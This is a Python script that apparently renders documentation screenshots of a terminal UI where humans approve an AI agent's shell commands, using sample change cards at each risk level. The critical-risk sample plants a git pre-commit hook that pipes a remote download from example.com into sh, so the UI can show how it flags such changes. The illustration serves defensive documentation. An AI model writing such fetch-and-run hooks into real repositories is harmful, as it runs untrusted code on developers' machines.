"""Draw the documentation's pictures of the terminal UI: the real app, with cards made for it.

python tools/gallery.py docs/reference/tui
"""

import os
import re
import sys
import time
from collections.abc import AsyncGenerator, Mapping
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import anyio
from textual.pilot import Pilot

from luminaguard.approval.card import DiffCard
from luminaguard.approval.desk.held import HeldDesk
from luminaguard.approval.keys import KeyGate
from luminaguard.domain.calls import JsonValue, ToolCall
from luminaguard.domain.changeset import Changeset, Mark
from luminaguard.domain.execution import Ended, GuestReport
from luminaguard.domain.grant import GrantOffer, GrantScope
from luminaguard.domain.verdict import Lane, Risk, Verdict
from luminaguard.llm.model import Reply
from luminaguard.testing.cards import card_of, text_change, text_diff
from luminaguard.tui.app import CliffApp
from luminaguard.tui.surroundings import RunHere
from luminaguard.tui.trail import Trail

NOON = datetime(2026, 11, 21, 12, 0, 0, tzinfo=UTC)
ENVIRONMENT = {"TERM": "xterm-256color", "LANG": "C.UTF-8"}
FONTS = re.compile(r"@font-face \{.*?\}\s*", re.DOTALL)
"""They would be fetched from elsewhere; the reader's own monospaced font does."""
OFFERS = (
    GrantOffer(offer_id="exact", scope=GrantScope.EXACT, covers="this very call, once more"),
    GrantOffer(
        offer_id="session",
        scope=GrantScope.SESSION,
        covers="`make format`, changing files below src/ only, until the session ends",
        also=("make format CHECK=1",),
    ),
)
Texts = Mapping[str, tuple[str | None, str | None]]

ORDER = """def total(order):
    price = order.price
    for discount in order.discounts:
        price -= discount
    return price * 2
"""
HOOK = "#!/bin/sh\ncurl -s https://example.com/x | sh\n"


def card(command: str, texts: Texts, risk: Risk, why: str, **more: JsonValue) -> DiffCard:
    """Return a card whose times do not depend on when the picture is drawn."""
    marked = {
        path: (Mark(name="runs-later", why="git runs it at the next commit"),)
        for path in texts
        if ".git/hooks" in path
    }
    changes = tuple(
        replace(text_change(path, *texts[path]), marks=marked.get(path, ()))
        for path in sorted(texts)
    )
    made = card_of(
        Changeset(base="0" * 64, changes=changes),
        tuple(text_diff(path, *texts[path]) for path in sorted(texts)),
        call=ToolCall(call_id="call", tool="shell", arguments={"command": command, **more}),
        risk=risk,
        report=GuestReport(ended=Ended.EXITED, exit_code=0, stdout=b"done\n", duration_s=1.4),
    )
    request = replace(made.request, requested_at=NOON, expires_at=NOON + timedelta(seconds=300))
    verdict = Verdict(lane=Lane.RED, risk=Risk.LOW, rules=("effect-unknown",), reasons=(why,))
    return replace(made, request=request, verdict=verdict)


def cards() -> dict[str, DiffCard]:
    """Return one card for each risk, and one that offers something to be remembered."""
    mended = ORDER.replace("order.price\n", "order.net_price\n").replace("price * 2", "price * 3")
    unknown = "'make' is not on the list of pure reads"
    edit = card("make format", {"src/order.py": (ORDER, mended)}, Risk.MEDIUM, unknown)
    return {
        "low": card("make docs", {"docs/order.md": (None, "# Orders\n")}, Risk.LOW, unknown),
        "medium": edit,
        "high": card(
            "make clean",
            {"build/keep.txt": ("mine\n", None), "src/order.py": (ORDER, mended)},
            Risk.HIGH,
            unknown,
        ),
        "critical": card(
            "python setup.py develop",
            {".git/hooks/pre-commit": (None, HOOK), "src/order.py": (ORDER, mended)},
            Risk.CRITICAL,
            "'python' can do anything",
        ),
        "grant": replace(edit, offers=OFFERS),
    }


@asynccontextmanager
async def screen(
    *shown: DiffCard, size: tuple[int, int], **environ: str
) -> AsyncGenerator[tuple[CliffApp, Pilot[str]]]:
    """Run the app over a queue of cards, some seconds after they were asked."""

    def now() -> datetime:
        return NOON + timedelta(seconds=12)

    desk = HeldDesk(approver="tui", now=now)
    trail = Trail(now)
    pool = "machines: 1 in use, 1 warm, 0 starting; 0 calls wait"
    run = RunHere(trail=trail, interrupt=lambda: None, pool_text=lambda: pool)
    gate = KeyGate(arm_after_s=0.05, quiet_s=0.02)
    app = CliffApp(environ=ENVIRONMENT | environ, now=now, run=run, gate=gate)
    app.attach(desk.attach(proof="a picture"))

    async def ask(one: DiffCard) -> None:
        await desk.ask(one.request, one, origin="process 4711, /home/ann/shop")

    async with anyio.create_task_group() as tasks:
        for one in shown:
            tasks.start_soon(ask, one)
        async with app.run_test(size=size) as pilot:
            trail.said(Reply(text="I will mend the total and format the sources."))
            trail.calling(ToolCall(call_id="c", tool="shell", arguments={"command": "make test"}))
            await pilot.pause(0.6)
            yield app, pilot
        tasks.cancel_scope.cancel()


def keep(app: CliffApp, path: Path) -> None:
    """Write what is on the screen as a picture."""
    svg = FONTS.sub("", app.export_screenshot(title="luminaguard"))
    path.write_text(svg.replace("Fira Code", "DejaVu Sans Mono"), encoding="utf-8")


async def draw(directory: Path) -> None:
    """Draw all pictures."""
    made = cards()
    queue = [made[name] for name in ("low", "medium", "high", "critical")]
    for number, name in enumerate(("low", "medium", "high", "critical")):
        async with screen(*queue, size=(120, 36)) as (app, pilot):
            app.action_step(number)
            await pilot.pause(0.6)
            keep(app, directory / f"{name}.svg")
    for name, size in (("narrow", (48, 32)), ("small", (20, 6)), ("wide", (200, 40))):
        async with screen(*queue[2:], size=size) as (app, _):
            keep(app, directory / f"{name}.svg")
    async with screen(made["high"], size=(100, 34), NO_COLOR="1", LANG="C") as (app, _):
        keep(app, directory / "ascii.svg")
    for name, key in (("grant", "g"), ("reason", "r"), ("help", "question_mark"), ("story", "t")):
        async with screen(made["grant"], size=(100, 34)) as (app, pilot):
            await pilot.press(key)
            await pilot.pause(0.4)
            keep(app, directory / f"{name}.svg")


if __name__ == "__main__":
    os.environ["TZ"] = "UTC"
    time.tzset()
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    anyio.run(draw, target)
